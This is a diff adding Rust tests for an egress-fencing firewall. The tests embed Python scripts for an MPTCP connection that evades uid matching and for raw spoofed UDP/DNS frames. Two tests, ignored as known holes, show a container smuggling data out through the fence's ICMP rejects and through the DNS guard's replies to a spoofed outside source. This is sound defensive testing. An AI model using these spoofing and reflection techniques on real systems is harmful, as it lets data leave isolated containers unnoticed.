@@ -640,3 +640,167 @@ fn a_container_on_a_bridge_with_a_lan_port_is_fenced_without_bridge_netfilter() 
         "the container got out through the bridge's LAN port"
     );
 }
+
+/// Connects an MPTCP socket (its subflows are TCP sockets the kernel makes) to ARGV[1]:443;
+/// prints `connected` or `refused`.
+const MPTCP_CONNECT: &str = r#"
+import socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)  # IPPROTO_MPTCP
+s.settimeout(3)
+try:
+    s.connect((sys.argv[1], 443))
+    s.send(b'mptcp-data')
+    print('connected')
+except OSError:
+    print('refused')
+"#;
+
+/// MPTCP: the kernel makes the subflows' TCP sockets, and a socket without a file has no
+/// owner for `meta skuid`. The subflows are grafted to the user's socket (owner) and take its
+/// cgroup: a scoped user and a process in a scoped cgroup stay fenced.
+#[test]
+fn mptcp_subflows_of_a_scoped_user_or_cgroup_are_fenced() {
+    let w = World::new();
+    let mut cgroups = TestCgroups::new();
+    let fenced = cgroups.make("fenced");
+    let policy = format!(
+        "version: 1\naction: reject\nscope:\n  users: [1001]\n  cgroups: [{}]\nallow:\n  - cidr: \
+         192.0.2.10/32\n    ports: [443]\ndns:\n  resolvers: [192.0.2.53]\n",
+        cgroups.policy_path("fenced")
+    );
+    let policy = w.write_file("scope.yaml", &policy);
+    let listener = w.listen_tcp(OTHER_V4, 443);
+    let other = OTHER_V4.to_string();
+    let before = w.adversary_cmd(SCOPED, &[PYTHON, "-c", MPTCP_CONNECT, &other]);
+    assert_eq!(before.stdout.trim(), "connected", "no MPTCP here: {before}");
+    let seen = listener.count();
+    put_up(&w, &policy, SCOPE_LOAD);
+    let by_uid = w.adversary_cmd(SCOPED, &[PYTHON, "-c", MPTCP_CONNECT, &other]);
+    assert_eq!(by_uid.stdout.trim(), "refused", "{by_uid}");
+    let by_cgroup = w.sandbox_cmd_in_cgroup(&fenced, &[PYTHON, "-c", MPTCP_CONNECT, &other]);
+    assert_eq!(by_cgroup.stdout.trim(), "refused", "{by_cgroup}");
+    assert_eq!(listener.count(), seen);
+}
+
+/// Writes, on the container's eth0 to the bridge's MAC, 3 IPv4/UDP datagrams from SRC:40002
+/// to DST:PORT: a DNS query for NAME when KIND is `dns`, else NAME itself as the payload.
+/// Arguments: DST_MAC SRC DST PORT KIND NAME.
+const SPOOFED_DATAGRAM: &str = r#"
+import socket, struct, sys
+dst_mac, src, dst, port, kind, name = sys.argv[1:7]
+port = int(port)
+if kind == 'dns':
+    qname = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
+    payload = struct.pack('!HHHHHH', 0x4242, 0x0100, 1, 0, 0, 0) + qname + struct.pack('!HH', 1, 1)
+else:
+    payload = name.encode()
+udp = struct.pack('!HHHH', 40002, port, 8 + len(payload), 0) + payload
+def checksum(b):
+    t = sum(struct.unpack('!%dH' % (len(b) // 2), b))
+    while t >> 16:
+        t = (t & 0xffff) + (t >> 16)
+    return ~t & 0xffff
+h = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 778, 0, 64, 17, 0,
+                socket.inet_aton(src), socket.inet_aton(dst))
+packet = h[:10] + struct.pack('!H', checksum(h)) + h[12:] + udp
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+s.bind(('eth0', 0))
+frame = bytes.fromhex(dst_mac.replace(':', '')) + s.getsockname()[4] + b'\x08\x00' + packet
+for _ in range(3):
+    s.send(frame)
+print('written')
+"#;
+
+/// The sandbox's reverse path filter as systemd sets it on most hosts (loose: a source is
+/// accepted on any interface as long as some route leads back to it); the bridge's MAC.
+fn loose_rp_filter_and_bridge_mac(w: &World) -> String {
+    for conf in ["all", "default", BRIDGE] {
+        let key = format!("net.ipv4.conf.{conf}.rp_filter=2");
+        let out = w.sandbox_cmd(&["sysctl", "-q", "-w", &key]);
+        assert!(out.success(), "{out}");
+    }
+    let mac = w.sandbox_cmd(&["cat", &format!("/sys/class/net/{BRIDGE}/address")]);
+    assert!(mac.success(), "{mac}");
+    mac.stdout.trim().to_string()
+}
+
+/// Root in the container writes a datagram the fence refuses, from a spoofed source: an
+/// outside address it controls. `reject with icmpx admin-prohibited` answers that source
+/// with an ICMP error that quotes the datagram (up to 576 bytes in all for IPv4, 1280 for
+/// IPv6), and the host's kernel sends it out of the uplink: no scope rule sees a packet of
+/// the host's own ICMP socket. The container's data leaves in the fence's own refusals.
+/// Fix: drop what a listed bridge sends from a source outside the bridge's networks
+/// (`iifname "efbr0" fib saddr . iif oif missing drop`, or a check of the bridge's
+/// prefixes) before anything answers it, and/or refuse from a bridge by `drop`.
+#[test]
+#[ignore = "HOLE: the fence's reject quotes a container's refused datagram to its spoofed (outside) source"]
+fn a_container_cannot_make_the_fence_reflect_its_data_to_a_spoofed_source() {
+    let w = World::new();
+    let container = BridgedContainer::new(&w);
+    let mac = loose_rp_filter_and_bridge_mac(&w);
+    let policy = w.write_file("scope.yaml", BRIDGE_POLICY);
+    put_up(&w, &policy, SCOPE_LOAD);
+    let (src, dst, port) = (
+        OTHER2_V4.to_string(),
+        OTHER_V4.to_string(),
+        UDP_PORT.to_string(),
+    );
+    let (capture, sent) = w.count_marked_frames(0x0800, "reflected-secret", 3, || {
+        container.cmd(&[
+            PYTHON,
+            "-c",
+            SPOOFED_DATAGRAM,
+            &mac,
+            &src,
+            &dst,
+            &port,
+            "raw",
+            "reflected-secret",
+        ])
+    });
+    assert!(sent.success(), "{sent}");
+    assert_eq!(
+        capture.stdout.trim(),
+        "0",
+        "the container's payload left the host quoted in the fence's ICMP error"
+    );
+}
+
+/// Root in the container asks the guard on the bridge address a name outside the policy,
+/// from a spoofed outside source: the guard's refusal repeats the question (the data) and
+/// goes to that source out of the uplink. Fix as above (the guard answers only sources of
+/// the bridge's networks; the table drops spoofed sources from a listed bridge).
+#[test]
+#[ignore = "HOLE: the guard answers a container's spoofed outside source, echoing the question out of the uplink"]
+fn a_container_cannot_make_the_guard_answer_a_spoofed_source() {
+    let w = World::new();
+    let container = BridgedContainer::new(&w);
+    let mac = loose_rp_filter_and_bridge_mac(&w);
+    let policy = w.write_file("scope.yaml", BRIDGE_GUARD_POLICY);
+    let _guard = w.spawn_guard(path_arg(&policy));
+    let answer = container.dig(BRIDGE_V4, "guard-is-up.example.com");
+    assert!(
+        answer.stdout.contains("status:"),
+        "the guard does not answer on the bridge: {answer}"
+    );
+    let (src, bridge) = (OTHER2_V4.to_string(), BRIDGE_V4.to_string());
+    let (capture, sent) = w.count_marked_frames(0x0800, "exfilsecret", 3, || {
+        container.cmd(&[
+            PYTHON,
+            "-c",
+            SPOOFED_DATAGRAM,
+            &mac,
+            &src,
+            &bridge,
+            "53",
+            "dns",
+            "exfilsecret.elsewhere.example.com",
+        ])
+    });
+    assert!(sent.success(), "{sent}");
+    assert_eq!(
+        capture.stdout.trim(),
+        "0",
+        "the guard's answer to a spoofed source left the host with the container's question"
+    );
+}
